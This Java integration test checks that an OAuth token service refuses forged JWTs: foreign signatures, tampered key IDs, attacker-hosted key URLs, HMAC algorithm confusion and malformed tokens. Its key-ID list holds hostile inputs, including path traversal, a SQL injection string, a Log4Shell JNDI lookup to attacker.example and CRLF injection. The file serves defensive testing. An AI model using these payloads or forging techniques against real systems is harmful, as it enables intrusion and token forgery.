package dev.latchkey.token;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jwt.SignedJWT;
import dev.latchkey.token.TokenEndpoint.Answer;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Access tokens with the right claims that somebody else signed, however their header explains it (RFC 8725 sections 3.1 and
 * 3.10): the key is the published one, whatever a token says of keys.
 */
@TokenServiceTest
@ExtendWith(NoTroubleLogged.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ForgedTokenIT {

    @Autowired
    TestService service;

    TestAccount account;
    RSAKey stranger;
    String keyId;

    @BeforeAll
    void signUp() throws JOSEException {
        account = TestAccount.signedUp(service, TestAccount.ALL_SCOPES + " openid");
        stranger = new RSAKeyGenerator(2048).keyID("stranger").generate();
        keyId = TestJwts.parse(account.token()).getHeader().getKeyID();
    }

    static Stream<String> keyIds() {
        return Stream.of(
                "",
                "stranger",
                "0",
                "null",
                "../../../../dev/null",
                "/proc/self/environ",
                "file:///dev/null",
                "http://127.0.0.1:9083/actuator/health",
                "' OR '1'='1",
                "${jndi:ldap://attacker.example/x}",
                "a\r\nb",
                "k".repeat(3_000));
    }

    /** Right claims, another's signature. */
    @ParameterizedTest
    @MethodSource("keyIds")
    void refusesAStrangersSignatureUnderAnyKeyId(String id) {
        assertRefused(forged(header -> header.keyID(id)));
    }

    @Test
    void refusesAStrangersSignatureUnderTheRightKeyIdAndUnderNone() {
        assertRefused(forged(header -> header.keyID(keyId)));
        assertRefused(forged(header -> header));
    }

    @Test
    void takesNoKeyFromTheToken() {
        URI elsewhere = URI.create("https://attacker.example/keys");

        assertRefused(forged(header -> header.jwk(stranger.toPublicJWK())));
        assertRefused(forged(header -> header.keyID(keyId).jwk(stranger.toPublicJWK())));
        assertRefused(forged(header -> header.keyID(keyId).jwkURL(elsewhere)));
        assertRefused(forged(header -> header.keyID(keyId).x509CertURL(elsewhere)));
    }

    @Test
    void refusesHeadersThatMustBeUnderstoodAndOtherTypes() {
        assertRefused(forged(
                header -> header.keyID(keyId).criticalParams(Set.of("exp")).customParam("exp", 1)));
        assertRefused(forged(
                header -> header.keyID(keyId).base64URLEncodePayload(false).criticalParams(Set.of("b64"))));
        assertRefused(forged(header -> header.keyID(keyId).type(new JOSEObjectType("dpop+jwt"))));
    }

    /** The public key in the forms that a library might have at hand, taken for a secret. */
    @Test
    void takesThePublicKeyForNoSecret() throws JOSEException {
        RSAKey published =
                TestJwts.keysOf(service.endpoint()).getKeyByKeyId(keyId).toRSAKey();
        for (byte[] secret : new byte[][] {
            published.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8),
            published.getModulus().decode(),
            published.getModulus().toString().getBytes(StandardCharsets.US_ASCII),
            published.toRSAPublicKey().getEncoded()
        }) {
            for (JWSAlgorithm algorithm : JWSAlgorithm.Family.HMAC_SHA) {
                assertRefused(sign(new JWSHeader.Builder(algorithm).keyID(keyId).build(), new MACSigner(secret)));
            }
        }
    }

    @Test
    void takesNoOtherAlgorithmOfTheSameKeyType() throws JOSEException {
        for (JWSAlgorithm algorithm : JWSAlgorithm.Family.RSA) {
            assertRefused(sign(new JWSHeader.Builder(algorithm).keyID(keyId).build(), new RSASSASigner(stranger)));
        }
    }

    static Stream<UnaryOperator<String>> spellings() {
        return Stream.of(
                token -> token + ".",
                token -> "." + token,
                token -> token.replace(".", ".."),
                token -> token.substring(0, token.lastIndexOf('.')),
                token -> token.substring(0, token.lastIndexOf('.') + 1),
                token -> token.replace('.', ','),
                token -> token + "." + token,
                token -> token.replaceFirst("ey", "EY"),
                token -> token + "%00",
                token -> "\"" + token + "\"",
                token -> token + ", Bearer " + token);
    }

    @ParameterizedTest
    @MethodSource("spellings")
    void refusesEveryOtherSpelling(UnaryOperator<String> spelling) {
        assertRefused(spelling.apply(account.token()));
    }

    private String forged(UnaryOperator<JWSHeader.Builder> header) {
        try {
            return sign(header.apply(new JWSHeader.Builder(JWSAlgorithm.RS256)).build(), new RSASSASigner(stranger));
        } catch (JOSEException broken) {
            throw new AssertionError("cannot sign", broken);
        }
    }

    private String sign(JWSHeader header, JWSSigner signer) {
        try {
            SignedJWT jwt = new SignedJWT(header, TestJwts.claims(account.token()));
            jwt.sign(signer);
            return jwt.serialize();
        } catch (JOSEException broken) {
            throw new AssertionError("cannot sign", broken);
        }
    }

    /** Wherever a token opens something; the right one still does. */
    private void assertRefused(String token) {
        for (String path : new String[] {"/userinfo", TestAccount.METHODS}) {
            Answer answer = get(path, token);
            assertThat(answer.status())
                    .as(path + " " + token + answer.rawText())
                    .isEqualTo(401);
            assertThat(answer.raw().headers().firstValue("WWW-Authenticate"))
                    .hasValueSatisfying(challenge -> assertThat(challenge).contains("error=\"invalid_token\""));
            assertThat(get(path, account.token()).status()).as(path).isEqualTo(200);
        }
    }

    private Answer get(String path, String token) {
        return service.endpoint()
                .send(service.endpoint()
                        .request(path)
                        .header("Authorization", "Bearer " + token)
                        .GET());
    }
}
